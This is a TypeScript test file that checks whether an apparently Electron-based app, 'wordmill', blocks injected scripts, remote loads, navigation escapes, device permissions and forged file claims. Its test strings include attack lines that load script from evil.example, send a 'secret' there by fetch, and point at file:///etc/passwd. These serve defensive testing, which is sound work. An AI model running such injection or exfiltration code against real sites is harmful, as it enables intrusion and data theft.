import { type App, expect, test } from './fixture.ts'

const REFUSED = /Content Security Policy|violates the document|ERR_|Not allowed|Failed to|not allowed|Unsafe attempt/

/** Runs code in the page, as a script that got in would. */
async function attack<T>(app: App, code: string): Promise<T> {
  app.expectProblem(REFUSED)
  return app.page.evaluate<T>(code)
}

test('the page may load, run, frame and send nothing but its own', async ({ app }) => {
  const results = await attack<Record<string, unknown>>(
    app,
    `(async () => {
      const run = (tag, set) => new Promise((done) => {
        const element = Object.assign(document.createElement(tag), set)
        element.onload = () => done('loaded')
        element.onerror = () => done('refused')
        document.body.append(element)
        setTimeout(() => done('nothing'), 1000)
      })
      const script = document.createElement('script')
      script.textContent = 'window.wasInlineRun = true'
      document.body.append(script)
      // Later, because what a test evaluates may evaluate.
      const evaluated = await new Promise((done) => setTimeout(() => {
        try { new Function('return 1')(); done('run') } catch { done('refused') }
      }))
      return {
        inline: window.wasInlineRun ?? 'refused',
        evaluated,
        script: await run('script', { src: 'https://evil.example/x.js' }),
        dataScript: await run('script', { src: 'data:text/javascript,window.wasDataRun=true' }),
        image: await run('img', { src: 'https://evil.example/x.png' }),
        sheet: await run('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }),
        sent: await fetch('https://evil.example/?secret').then(() => 'sent', () => 'refused'),
        loopback: await fetch('http://127.0.0.1:9/').then(() => 'sent', () => 'refused'),
        worker: await new Promise((done) => {
          try {
            const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
            worker.onmessage = () => done('run')
            worker.onerror = () => done('refused')
          } catch { done('refused') }
        }),
      }
    })()`,
  )
  expect(Object.entries(results).filter(([, outcome]) => outcome !== 'refused')).toEqual([])
})

test('the page has no Node and nothing of Electron beside one function', async ({ app }) => {
  const seen = await app.page.evaluate(() => ({
    node: ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron'].filter((name) => name in window),
    bridge: Object.keys(window.wordmill ?? {}),
  }))
  expect(seen).toEqual({ node: [], bridge: app.isDesktop ? ['claimFiles'] : [] })
})

test.describe('in the window', () => {
  test.beforeEach(({ app }) => {
    test.skip(!app.isDesktop, 'a browser tab may be led elsewhere; its session stays with its origin')
  })

  const addresses = [
    'https://evil.example/',
    'https://evil.example/?app://wordmill/',
    'https://evil.example/#app://wordmill/',
    'https://app:wordmill@evil.example/',
    'http://app.wordmill.example/',
    'https://wordmill/',
    'file:///etc/passwd',
    'data:text/html,<h1>evil</h1>',
    'javascript:document.body.textContent="evil"',
  ]
  const ways = {
    'a link': (url: string) =>
      `Object.assign(document.body.appendChild(document.createElement('a')), { href: ${url} }).click()`,
    'a script': (url: string) => `location.href = ${url}`,
    'a form': (url: string) =>
      `{ const form = Object.assign(document.createElement('form'), { action: ${url} }); document.body.append(form); form.submit() }`,
    'a frame': (url: string) =>
      `document.body.append(Object.assign(document.createElement('iframe'), { src: ${url} }))`,
    'a new window': (url: string) => `window.open(${url})`,
    'a link to a new window': (url: string) =>
      `Object.assign(document.body.appendChild(document.createElement('a')), { href: ${url}, target: '_blank' }).click()`,
  }
  for (const [way, code] of Object.entries(ways)) {
    test(`${way} leads nowhere`, async ({ app }) => {
      const home = app.page.url()
      for (const address of addresses) {
        await attack(app, `void (() => { ${code(JSON.stringify(address))} })()`)
      }
      // The page is alive and the same, and answers.
      const heading = () => app.page.evaluate(() => document.querySelector('h1')?.textContent)
      await expect.poll(heading).toBe('Queue')
      await expect.poll(() => app.page.context().pages().length).toBe(1)
      expect(app.page.url()).toBe(home)
      expect(app.page.frames().filter((frame) => /evil|passwd/.test(frame.url()))).toEqual([])
      expect(app.output).not.toContain('open-external')
    })
  }

  test('a link to a data source opens in the system’s browser', async ({ app }) => {
    test.skip(app.kind === 'electron', 'would open a browser on this machine')
    await attack(app, `window.open('https://wordnet.princeton.edu/')`)
    await expect.poll(() => app.output).toContain('open-external https://wordnet.princeton.edu/')
  })

  test('permissions are denied', async ({ app }) => {
    const answers = await app.page.evaluate(async () => ({
      notifications: await Notification.requestPermission(),
      position: await new Promise((done) =>
        navigator.geolocation.getCurrentPosition(
          () => done('granted'),
          ({ code }) => done(code === 1 ? 'denied' : `error ${code}`),
        ),
      ),
      camera: await navigator.mediaDevices.getUserMedia({ video: true }).then(
        () => 'granted',
        ({ name }: Error) => name,
      ),
    }))
    expect(answers.notifications).toBe('denied')
    expect(answers.position).toBe('denied')
    expect(['NotAllowedError', 'NotFoundError']).toContain(answers.camera)
  })

  test('a file that a script made up is not claimed', async ({ app }) => {
    const refusal = await app.page.evaluate(() =>
      window.wordmill?.claimFiles([new File(['x'], '/etc/passwd')]).then(String, ({ message }: Error) => message),
    )
    expect(refusal).toContain('not a file on this computer')
  })
})
